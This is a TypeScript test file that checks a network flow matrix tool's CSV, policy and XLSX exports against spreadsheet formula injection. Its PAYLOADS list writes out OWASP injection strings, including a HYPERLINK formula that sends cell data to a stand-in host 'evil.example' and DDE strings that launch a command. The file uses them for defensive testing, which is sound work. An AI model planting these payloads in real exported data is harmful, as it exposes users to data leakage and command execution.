import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { parseCsv, policyFromCsv, policyToCsv } from '../../src/audit/policy-csv.js';
import type { Finding } from '../../src/model/finding.js';
import type { Endpoint, Hop, Leg, Matrix, MatrixRow, ServiceMatch } from '../../src/model/matrix.js';
import type { Text } from '../../src/model/text.js';
import { COLUMNS } from '../../src/render/columns.js';
import { CSV_PRESETS, renderCsv } from '../../src/render/csv.js';
import { renderXlsx } from '../../src/render/xlsx/index.js';
import { csvField, isFormulaLike, unneutralise } from '../../src/util/csv-field.js';
import { findings, matrix } from './fixtures/matrix.js';

/** What spreadsheets run as formulas (OWASP CSV injection), including the fullwidth forms Excel folds. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

/** The columns whose text comes from the catalog or the site (vocabulary labels and numbers cannot be hostile). */
const FREE_TEXT = COLUMNS.map((c) => c.id).filter(
  (id) =>
    ![
      'protocol',
      'ports',
      'requirement',
      'auth_default',
      'auth_supported',
      'encryption_supported',
      'encrypted_by_default',
      'kind',
      'direction',
      'finding_count',
      'origin', // each part starts with the fact's label ("Ports: …"), never with the catalog's text
    ].includes(id),
);

/** The fixture matrix with `payload` at the start of every free-text field that reaches a document cell. */
function hostile(payload: string): { matrix: Matrix; findings: Finding[] } {
  const p = (s: string): string => `${payload}${s}`;
  const t = (x: Text): Text => ({ fr: p(x.fr), en: p(x.en) });
  const ep = (e: Endpoint): Endpoint => ({ ...e, role: p(e.role), title: t(e.title) });
  const svc = (s: ServiceMatch): ServiceMatch => ({ ...s, name: p(s.name), ...(s.app ? { app: p(s.app) } : {}) });
  const hop = (h: Hop): Hop => ({ ...h, firewall: p(h.firewall) });
  const leg = (l: Leg): Leg => ({
    ...l,
    source: ep(l.source),
    destination: ep(l.destination),
    services: l.services.map(svc),
    zoneFrom: p(l.zoneFrom),
    zoneTo: p(l.zoneTo),
    hops: l.hops.map(hop),
  });
  const row = (r: MatrixRow): MatrixRow => ({
    ...r,
    key: p(r.key),
    catalog: p(r.catalog),
    flow: p(r.flow),
    ref: p(r.ref),
    purpose: t(r.purpose),
    when: p(r.when ?? 'x'),
    app: p(r.app ?? 'x'),
    interface: p(r.interface ?? 'x'),
    notes: t(r.notes ?? { fr: 'x', en: 'x' }),
    source: ep(r.source),
    destination: ep(r.destination),
    zoneFrom: p(r.zoneFrom),
    zoneTo: p(r.zoneTo),
    services: r.services.map(svc),
    legs: r.legs.map(leg),
    ...(r.proxy ? { proxy: { ...r.proxy, name: p(r.proxy.name) } } : {}),
  });
  return {
    matrix: {
      ...matrix,
      catalogs: matrix.catalogs.map((c) => ({ ...c, id: p(c.id) })),
      rows: matrix.rows.map(row),
    },
    findings: findings.map((f) => ({ ...f, ...(f.key ? { key: p(f.key) } : {}), message: t(f.message) })),
  };
}

describe('CSV formula injection', () => {
  for (const payload of PAYLOADS) {
    for (const [flavour, preset] of Object.entries(CSV_PRESETS)) {
      it(`neutralises ${JSON.stringify(payload)} in every free-text column (${flavour})`, () => {
        const { matrix: m, findings: f } = hostile(payload);
        const text = renderCsv(m, { lang: 'en', findings: f, ...preset });
        const rows = parseCsv(text);
        const header = rows[0] as string[];
        const neutralised = new Set<string>();
        for (const record of rows.slice(1)) {
          expect(record).toHaveLength(header.length);
          record.forEach((cell, i) => {
            // No cell a spreadsheet would run; the value is still all there, behind its quote.
            expect(isFormulaLike(cell), `${header[i]}: ${JSON.stringify(cell)}`).toBe(false);
            if (cell.startsWith(`'${payload}`)) neutralised.add(header[i] as string);
          });
        }
        expect([...neutralised].sort()).toEqual(FREE_TEXT.sort());
        // Each neutralised cell is quoted in the file, so the quote and the text stay one field.
        const sep = preset.separator;
        expect(text).not.toMatch(new RegExp(`(^|[${sep}\\n])'`, 'm'));
      });
    }
  }

  it('leaves a plain signed number and a port range readable, neutralises anything more', () => {
    expect(csvField('-1')).toBe('-1');
    expect(csvField('+33')).toBe('+33');
    expect(csvField('-0.5')).toBe('-0.5');
    expect(csvField('50000-59999')).toBe('50000-59999');
    expect(csvField('-1+1')).toBe(`"'-1+1"`);
    expect(csvField('+33 1 23 45 67 89')).toBe(`"'+33 1 23 45 67 89"`);
    expect(csvField('-1)')).toBe(`"'-1)"`);
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvField('=1+1', false)).toBe('=1+1');
    expect(unneutralise("'=1+1")).toBe('=1+1');
    expect(unneutralise("'quoted")).toBe("'quoted");
  });

  it('neutralises the policy export and reads it back to the same policy', () => {
    for (const payload of PAYLOADS.filter((x) => !/^[\t\r]/.test(x))) {
      const policy = [
        {
          from: `${payload}lan`,
          to: 'dmz',
          access: 'allow-only' as const,
          services: ['tcp/443'],
          severity: 'high' as const,
        },
      ];
      for (const sep of [',', ';'] as const) {
        const text = policyToCsv(policy, sep);
        const cells = parseCsv(text).slice(1).flat();
        for (const cell of cells) expect(isFormulaLike(cell), cell).toBe(false);
        expect(cells[0]).toBe(`'${payload}lan`);
        expect(policyFromCsv(text).policy[0]?.from).toBe(`${payload}lan`);
      }
    }
  });
});

describe('XLSX never writes a formula', () => {
  it('writes every hostile text as a string cell, exactly', async () => {
    const { matrix: m, findings: f } = hostile(PAYLOADS[0] as string);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await renderXlsx(m, { lang: 'en', findings: f })) as unknown as ArrayBuffer);
    let strings = 0;
    wb.eachSheet((sheet) => {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string' && cell.value.startsWith(PAYLOADS[0] as string)) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            strings++;
          }
        });
      });
    });
    expect(strings).toBeGreaterThan(50);
  });
});
